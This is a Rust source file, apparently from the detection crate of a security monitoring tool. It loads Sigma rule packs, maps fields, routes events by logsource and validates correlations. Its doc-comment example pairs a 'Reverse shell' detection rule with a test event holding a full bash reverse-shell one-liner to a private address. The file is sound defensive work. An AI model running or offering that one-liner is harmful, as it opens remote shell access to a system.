//! Vigie's Sigma layer: rule packs loaded, mapped to ECS, routed by logsource and evaluated.
//!
//! The engine underneath is rsigma (`rsigma-parser`, `rsigma-eval`); nothing of it leaks
//! through this API, so it can be swapped or compiled further later.
//!
//! - [`RuleSet::load`] reads rule files (single or multi-document YAML, collections, filters,
//!   correlations), applies the field mappings of `rules/mappings/` and the configured
//!   placeholders, and returns a [`LoadReport`]: a document that cannot be used is rejected with
//!   its file, id and reason, and never stops the rest of the pack from loading.
//! - [`RuleSet::evaluate`] runs the detection rules on one event. An event carrying
//!   `vigie.logsource.{product,category,service}` tags is evaluated only against the rules whose
//!   logsource those tags satisfy (every dimension the rule sets must equal the event's) and the
//!   rules that set none; an event without tags is evaluated against every rule.
//! - Correlation rules are parsed and validated here and kept in the set
//!   ([`RuleSet::correlations`]); the collector evaluates them.
//!
//! ```
//! use vigie_detect::{LoadOptions, RuleSet};
//! let dir = tempfile::tempdir().unwrap();
//! std::fs::write(dir.path().join("r.yml"), "
//! title: Reverse shell
//! id: 5a0c4b6e-0000-4000-8000-000000000001
//! logsource: {product: linux, category: process_creation}
//! detection:
//!   sel: {CommandLine|contains: '/dev/tcp/'}
//!   condition: sel
//! level: high
//! ").unwrap();
//! let (rules, report) = RuleSet::load(&[dir.path().into()], &LoadOptions::default()).unwrap();
//! assert_eq!(report.loaded, 1);
//! let event = vigie_event::Event::from_value(serde_json::json!({
//!     "process": {"command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
//!     "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
//! })).unwrap();
//! // No mapping given here, so the rule matches on its own field name only when the event
//! // has it; with the shipped mappings `CommandLine` also reads `process.command_line`.
//! assert!(rules.evaluate(&event).is_empty());
//! ```

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use rsigma_eval::{apply_pipelines, Pipeline};
use rsigma_parser::{parse_sigma_yaml, CorrelationRule, FilterRule, SigmaRule};
use serde::Serialize;
use sha2::{Digest, Sha256};
use vigie_event::Event;

mod correlate;
mod distinct;
mod event;
mod gate;
mod load;
mod mapping;
mod rewrite;
mod route;

pub use correlate::{CorrelationHit, Correlator, CorrelatorConfig, CorrelatorStats};
pub use event::SigmaView;
pub use load::{read_sources, rule_files, LoadReport, Rejection, MAX_RULE_FILE_BYTES};
pub use mapping::{load_mapping_dir, load_mapping_file, load_mappings, parse_mapping};

/// Errors that stop a pack from loading at all (a rule path or a mapping that cannot be read).
/// A bad rule is not an error: it is a [`Rejection`] in the report.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum DetectError {
    /// A path could not be read.
    #[error("{}: {message}", path.display())]
    Io {
        /// The path.
        path: PathBuf,
        /// What went wrong.
        message: String,
    },
    /// The correlations of a pack cannot be set up, or their saved state does not read.
    #[error("correlation: {reason}")]
    Correlation {
        /// What went wrong.
        reason: String,
    },
    /// A mapping file is not a valid processing pipeline.
    #[error("mapping {}: {reason}", path.display())]
    Mapping {
        /// The mapping file.
        path: PathBuf,
        /// What is wrong with it.
        reason: String,
    },
}

impl DetectError {
    pub(crate) fn io(path: &Path, e: std::io::Error) -> Self {
        DetectError::Io {
            path: path.to_owned(),
            message: e.to_string(),
        }
    }
}

/// How a pack is loaded.
#[derive(Debug, Clone, Default)]
pub struct LoadOptions {
    /// Field mappings (pySigma pipelines), see [`load_mapping_dir`].
    pub mappings: Vec<Pipeline>,
    /// Values for `%name%` placeholders of rules using the `expand` modifier.
    pub placeholders: BTreeMap<String, Vec<String>>,
    /// Ids of rules that act as filters: a match drops the event instead of tagging it.
    pub drop_rules: BTreeSet<String>,
    /// Ids (or names) of rules and correlations left out of the pack (disabled by an analyst).
    /// A correlation referring to a disabled rule is rejected.
    pub disabled: BTreeSet<String>,
    /// Keep only the detection rules marked `vigie: {scope: central}` (rules on what only the
    /// collector knows, such as `vigie.novelty.*`), and no correlation. The collector runs
    /// them on events the edge already evaluated. Not part of the version.
    pub only_central: bool,
}

/// What a matching rule does to the event.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Action {
    /// Tag the event with the detection (the default).
    Tag,
    /// Drop the event: the rule describes noise (`vigie: {action: drop}` or a configured id).
    Drop,
}

/// A loaded detection rule, as matches report it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Rule {
    /// The rule's `id` (its title when it has none).
    pub id: String,
    /// The rule's title.
    pub title: String,
    /// `informational`, `low`, `medium`, `high` or `critical`; `medium` when unset.
    pub level: String,
    /// What a match does.
    #[serde(skip)]
    pub action: Action,
    /// Whether a match raises an alert of its own. False for a rule that correlations refer
    /// to, unless one of them says `generate: true` (Sigma's default for correlated rules):
    /// its matches still tag the event and feed the correlations.
    #[serde(skip)]
    pub alert: bool,
    /// The fields whose values group this rule's detections into one alert
    /// (`vigie: {group_by: [user.name]}`); empty for the collector's default (host, user,
    /// source and destination addresses).
    #[serde(skip)]
    pub group_by: Vec<String>,
    /// The file the rule came from.
    #[serde(skip)]
    pub file: PathBuf,
}

/// A loaded, ready-to-evaluate rule pack.
pub struct RuleSet {
    router: route::Router,
    fallbacks: mapping::Fallbacks,
    rules: HashMap<String, Arc<Rule>>,
    correlations: Vec<CorrelationRule>,
    /// The detection rules correlations refer to (by id or name), before the mappings.
    referenced: Vec<SigmaRule>,
    /// The mappings and placeholder pipeline, by priority.
    pipelines: Vec<Pipeline>,
    version: String,
}

impl std::fmt::Debug for RuleSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RuleSet")
            .field("rules", &self.rules.len())
            .field("logsource_groups", &self.router.groups())
            .field("keyword_gated", &self.router.gated())
            .field("correlations", &self.correlations.len())
            .field("version", &self.version)
            .finish()
    }
}

impl RuleSet {
    /// Loads every rule file under `paths`. Fails only when a path cannot be read; bad rules
    /// are listed in the report.
    pub fn load(paths: &[PathBuf], opts: &LoadOptions) -> Result<(Self, LoadReport), DetectError> {
        let files = rule_files(paths)?;
        let mut report = LoadReport::default();
        let parsed = load::parse_files(&files, &mut report);
        Ok(Self::build(parsed, report, opts))
    }

    /// Loads rules given as YAML text (one or more documents); `origin` names them in the
    /// report. For rules that come from an API request rather than files.
    pub fn load_str(origin: &str, text: &str, opts: &LoadOptions) -> (Self, LoadReport) {
        let mut report = LoadReport::default();
        let parsed = load::parse_text(Path::new(origin), text, &mut report);
        Self::build(parsed, report, opts)
    }

    /// Loads a pack given as named texts (`(name, yaml)`, e.g. a rule pack served by the
    /// collector). Loading the same names and texts with the same options gives the same
    /// [`RuleSet::version`] as loading files of those names.
    pub fn load_sources(sources: &[(String, String)], opts: &LoadOptions) -> (Self, LoadReport) {
        let mut report = LoadReport::default();
        let mut parsed = load::Parsed::empty();
        for (name, text) in sources {
            parsed.extend(load::parse_text(Path::new(name), text, &mut report));
        }
        Self::build(parsed, report, opts)
    }

    fn build(
        mut parsed: load::Parsed,
        mut report: LoadReport,
        opts: &LoadOptions,
    ) -> (Self, LoadReport) {
        let mut pipelines = opts.mappings.clone();
        pipelines.push(mapping::placeholder_pipeline(&opts.placeholders));
        pipelines.sort_by_key(|p| p.priority);
        let mut rewritten = std::mem::take(&mut parsed.collection.rules);
        rewritten.iter_mut().for_each(rewrite::rewrite);
        let filtered = &rewritten;

        // Duplicate ids: the first file (in sorted order) wins.
        let mut seen: HashMap<String, PathBuf> = HashMap::new();
        let mut keep: Vec<(&SigmaRule, &PathBuf)> = Vec::new();
        for (rule, file) in filtered.iter().zip(&parsed.rule_files) {
            let key = rule_key(rule);
            if opts.only_central && !is_central(rule) {
                continue;
            }
            if is_disabled(
                &opts.disabled,
                rule.id.as_deref(),
                rule.name.as_deref(),
                &key,
            ) {
                report.disabled += 1;
                continue;
            }
            let unsupplied: Vec<String> = mapping::placeholders_of(rule)
                .into_iter()
                .filter(|p| !opts.placeholders.contains_key(p))
                .collect();
            if !unsupplied.is_empty() {
                report.rejected.push(load::reject(
                    file,
                    rule.id.clone(),
                    format!(
                        "placeholder {} not supplied (give its values under [detect.placeholders])",
                        unsupplied
                            .iter()
                            .map(|p| format!("%{p}%"))
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                ));
                continue;
            }
            if let Some(first) = seen.get(&key) {
                report.rejected.push(load::reject(
                    file,
                    rule.id.clone(),
                    format!("duplicate rule id, already loaded from {}", first.display()),
                ));
                continue;
            }
            seen.insert(key, file.clone());
            keep.push((rule, file));
        }

        let compiled: Vec<&SigmaRule> = keep.iter().map(|(r, _)| *r).collect();
        let (mut router, errors) = route::Router::build(&pipelines, &compiled);
        let mut failed = vec![false; keep.len()];
        for (idx, err) in errors {
            if let Some((rule, file)) = keep.get(idx) {
                failed[idx] = true;
                report
                    .rejected
                    .push(load::reject(file, rule.id.clone(), err));
            }
        }
        let mut rules = HashMap::new();
        for ((rule, file), failed) in keep.iter().zip(failed) {
            if failed {
                continue;
            }
            let meta = Rule {
                id: rule_key(rule),
                title: rule.title.clone(),
                level: rule.level.map_or("medium", |l| l.as_str()).to_owned(),
                action: action_of(rule, &opts.drop_rules),
                alert: true,
                group_by: group_by_of(rule),
                file: (*file).clone(),
            };
            rules.insert(meta.id.clone(), Arc::new(meta));
        }
        // Filters apply across files, after the mappings (their fields are mapped the same way).
        for (filter, file) in parsed.collection.filters.iter().zip(&parsed.filter_files) {
            match map_filter(filter, &pipelines).and_then(|f| router.apply_filter(&f)) {
                Ok(()) => report.filters += 1,
                Err(reason) => report
                    .rejected
                    .push(load::reject(file, filter.id.clone(), reason)),
            }
        }
        report.detection_rules = rules.len();

        let kept: Vec<&SigmaRule> = keep
            .iter()
            .filter(|(r, _)| rules.contains_key(&rule_key(r)))
            .map(|(r, _)| *r)
            .collect();
        let correlations = if opts.only_central {
            Vec::new()
        } else {
            validate_correlations(&parsed, &kept, opts, &mut report)
        };
        report.correlation_rules = correlations.len();
        report.loaded = report.detection_rules + report.correlation_rules + report.filters;
        let referenced = referenced_rules(&kept, &correlations);
        silence_correlated(&mut rules, &referenced, &correlations);
        let version = pack_version(&parsed.sources, opts);
        // Freeing the parsed rules (thousands of small allocations: 40-60 ms of loading the
        // SigmaHQ corpus) happens beside the caller rather than before it gets the pack.
        drop_in_background((rewritten, parsed));
        (
            RuleSet {
                router,
                fallbacks: mapping::fallbacks(&opts.mappings),
                rules,
                correlations,
                referenced,
                pipelines,
                version,
            },
            report,
        )
    }

    /// The detection rules that match `event`, routed by its logsource tags.
    pub fn evaluate(&self, event: &Event) -> Vec<Arc<Rule>> {
        self.evaluate_map(event.as_map())
    }

    /// [`RuleSet::evaluate`] on a bare JSON object (an event as the collector stores it).
    pub fn evaluate_map(
        &self,
        event: &serde_json::Map<String, serde_json::Value>,
    ) -> Vec<Arc<Rule>> {
        let view = SigmaView::from_map(event).with_fallbacks(&self.fallbacks);
        let results = self.router.evaluate(&view, &tags_of(event));
        results
            .iter()
            .filter_map(|r| {
                let key = r.header.rule_id.as_ref().unwrap_or(&r.header.rule_title);
                self.rules.get(key).cloned()
            })
            .collect()
    }

    /// Evaluates a raw JSON value (a test event); anything but an object matches nothing.
    pub fn evaluate_value(&self, value: &serde_json::Value) -> Vec<Arc<Rule>> {
        value
            .as_object()
            .map_or_else(Vec::new, |m| self.evaluate_map(m))
    }

    /// Number of detection rules loaded.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Whether no detection rule loaded.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// A loaded detection rule by id.
    pub fn rule(&self, id: &str) -> Option<&Arc<Rule>> {
        self.rules.get(id)
    }

    /// The correlation rules of the pack (validated; [`Correlator`] evaluates them).
    pub fn correlations(&self) -> &[CorrelationRule] {
        &self.correlations
    }

    /// Every loaded detection rule, in no particular order.
    pub fn rules(&self) -> impl Iterator<Item = &Arc<Rule>> {
        self.rules.values()
    }

    /// The pack's version: a digest of its rule files, mappings and options. Two agents with
    /// the same version evaluate events the same way.
    pub fn version(&self) -> &str {
        &self.version
    }
}

/// Applies the field mappings to a filter's detection, as they are applied to rules.
fn map_filter(filter: &FilterRule, pipelines: &[Pipeline]) -> Result<FilterRule, String> {
    let template = "title: filter\nlogsource: {}\ndetection: {s: {f: v}, condition: s}\n";
    let mut rule = parse_sigma_yaml(template)
        .ok()
        .and_then(|c| c.rules.into_iter().next())
        .ok_or_else(|| "internal: filter template did not parse".to_owned())?;
    rule.title = filter.title.clone();
    rule.logsource = filter.logsource.clone().unwrap_or_default();
    rule.detection = filter.detection.clone();
    rewrite::rewrite(&mut rule);
    apply_pipelines(pipelines, &mut rule).map_err(|e| e.to_string())?;
    let mut mapped = filter.clone();
    mapped.detection = rule.detection;
    Ok(mapped)
}

/// The key a rule is known by: its id, else its title.
fn rule_key(rule: &SigmaRule) -> String {
    rule.id.clone().unwrap_or_else(|| rule.title.clone())
}

/// The fields of `vigie: {group_by: [...]}` (a string or a list).
fn group_by_of(rule: &SigmaRule) -> Vec<String> {
    let Some(v) = rule
        .custom_attributes
        .get("vigie")
        .and_then(|v| v.get("group_by"))
    else {
        return Vec::new();
    };
    if let Some(s) = v.as_str() {
        return vec![s.to_owned()];
    }
    v.as_sequence()
        .map(|items| {
            items
                .iter()
                .filter_map(|i| i.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

/// Whether a rule says `vigie: {scope: central}`.
fn is_central(rule: &SigmaRule) -> bool {
    rule.custom_attributes
        .get("vigie")
        .and_then(|v| v.get("scope"))
        .and_then(|s| s.as_str())
        .is_some_and(|s| s.eq_ignore_ascii_case("central"))
}

fn action_of(rule: &SigmaRule, drop_rules: &BTreeSet<String>) -> Action {
    if rule.id.as_ref().is_some_and(|id| drop_rules.contains(id)) {
        return Action::Drop;
    }
    let custom = rule
        .custom_attributes
        .get("vigie")
        .and_then(|v| v.get("action"))
        .and_then(|a| a.as_str());
    match custom {
        Some(a) if a.eq_ignore_ascii_case("drop") => Action::Drop,
        _ => Action::Tag,
    }
}

/// The event's `vigie.logsource` tags, trimmed (the router compares them ignoring case).
fn tags_of(event: &serde_json::Map<String, serde_json::Value>) -> route::Tags<'_> {
    let Some(tags) = vigie_event::get_path(event, "vigie.logsource").and_then(|v| v.as_object())
    else {
        return route::Tags::default();
    };
    let get = |k: &str| {
        tags.get(k)
            .and_then(|v| v.as_str())
            .map(str::trim)
            .filter(|s| !s.is_empty())
    };
    route::Tags {
        product: get("product"),
        category: get("category"),
        service: get("service"),
    }
}

/// Drops `value` on a short-lived thread; inline when no thread can be started.
fn drop_in_background<T: Send + 'static>(value: T) {
    // On failure `spawn` drops the closure, and `value` with it, here.
    let _ = std::thread::Builder::new()
        .name("vigie-free".into())
        .spawn(move || drop(value));
}

/// Whether a rule (or correlation) is disabled by its id, name or key.
fn is_disabled(
    disabled: &BTreeSet<String>,
    id: Option<&str>,
    name: Option<&str>,
    key: &str,
) -> bool {
    !disabled.is_empty()
        && (disabled.contains(key)
            || id.is_some_and(|i| disabled.contains(i))
            || name.is_some_and(|n| disabled.contains(n)))
}

/// The detection rules that correlations refer to by id or name.
fn referenced_rules(rules: &[&SigmaRule], correlations: &[CorrelationRule]) -> Vec<SigmaRule> {
    let refs: BTreeSet<&str> = correlations
        .iter()
        .flat_map(|c| c.rules.iter().map(String::as_str))
        .collect();
    rules
        .iter()
        .filter(|r| {
            r.id.as_deref().is_some_and(|i| refs.contains(i))
                || r.name.as_deref().is_some_and(|n| refs.contains(n))
        })
        .map(|r| (*r).clone())
        .collect()
}

/// Marks the rules that only feed correlations (none of which says `generate: true`).
fn silence_correlated(
    rules: &mut HashMap<String, Arc<Rule>>,
    referenced: &[SigmaRule],
    correlations: &[CorrelationRule],
) {
    for r in referenced {
        let refers = |c: &&CorrelationRule| {
            c.rules.iter().any(|x| {
                Some(x.as_str()) == r.id.as_deref() || Some(x.as_str()) == r.name.as_deref()
            })
        };
        let generate = correlations.iter().filter(refers).any(|c| c.generate);
        if !generate {
            if let Some(meta) = rules.get_mut(&rule_key(r)) {
                Arc::make_mut(meta).alert = false;
            }
        }
    }
}

/// A `temporal` / `temporal_ordered` correlation without a condition needs every rule it
/// refers to (Sigma's correlation specification); the parser reads a missing condition as
/// `gte: 1`, so that threshold is raised to the number of rules. (An explicit `gte: 1` reads
/// the same and is raised too: "any one of the rules" is an event_count, not a temporal.)
fn temporal_needs_all(mut corr: CorrelationRule) -> CorrelationRule {
    use rsigma_parser::{ConditionOperator, CorrelationCondition, CorrelationType};
    let temporal = matches!(
        corr.correlation_type,
        CorrelationType::Temporal | CorrelationType::TemporalOrdered
    );
    if let CorrelationCondition::Threshold {
        predicates,
        field: None,
        ..
    } = &mut corr.condition
    {
        if temporal && predicates.as_slice() == [(ConditionOperator::Gte, 1)] {
            let all = corr.rules.len() as u64;
            predicates[0].1 = all.max(1);
        }
    }
    corr
}

/// Keeps the correlations whose referenced rules exist in the pack; rejects the others.
fn validate_correlations(
    parsed: &load::Parsed,
    rules: &[&SigmaRule],
    opts: &LoadOptions,
    report: &mut LoadReport,
) -> Vec<CorrelationRule> {
    let mut known: BTreeSet<&str> = BTreeSet::new();
    for r in rules {
        known.extend(r.id.as_deref());
        known.extend(r.name.as_deref());
    }
    let enabled = |c: &CorrelationRule| {
        let key =
            c.id.clone()
                .or_else(|| c.name.clone())
                .unwrap_or_else(|| c.title.clone());
        !is_disabled(&opts.disabled, c.id.as_deref(), c.name.as_deref(), &key)
    };
    for c in parsed.collection.correlations.iter().filter(|c| enabled(c)) {
        known.extend(c.id.as_deref());
        known.extend(c.name.as_deref());
    }
    let mut out = Vec::new();
    for (corr, file) in parsed
        .collection
        .correlations
        .iter()
        .zip(&parsed.correlation_files)
    {
        if !enabled(corr) {
            report.disabled += 1;
            continue;
        }
        let missing: Vec<&str> = corr
            .rules
            .iter()
            .map(String::as_str)
            .filter(|r| !known.contains(r))
            .collect();
        if missing.is_empty() {
            out.push(temporal_needs_all(corr.clone()));
        } else {
            report.rejected.push(load::reject(
                file,
                corr.id.clone(),
                format!(
                    "correlation refers to rules not in the pack: {}",
                    missing.join(", ")
                ),
            ));
        }
    }
    out
}

fn pack_version(sources: &[(PathBuf, Vec<u8>)], opts: &LoadOptions) -> String {
    let mut h = Sha256::new();
    for (path, bytes) in sources {
        h.update(
            path.file_name()
                .map(|n| n.as_encoded_bytes())
                .unwrap_or(b""),
        );
        h.update((bytes.len() as u64).to_le_bytes());
        h.update(bytes);
    }
    // A mapping's name carries the digest of its file (see `parse_mapping`).
    for p in &opts.mappings {
        h.update(p.name.as_bytes());
        h.update([0]);
    }
    for (k, v) in &opts.placeholders {
        h.update(k.as_bytes());
        h.update(v.join("\u{1}").as_bytes());
    }
    // `drop_rules` is left out: it changes what an agent ships, not how shipped events match.
    h.update(b"\x00disabled");
    for id in &opts.disabled {
        h.update(id.as_bytes());
        h.update([0]);
    }
    let digest = h.finalize();
    format!("sha256-{}", &hex::encode(digest)[..16])
}
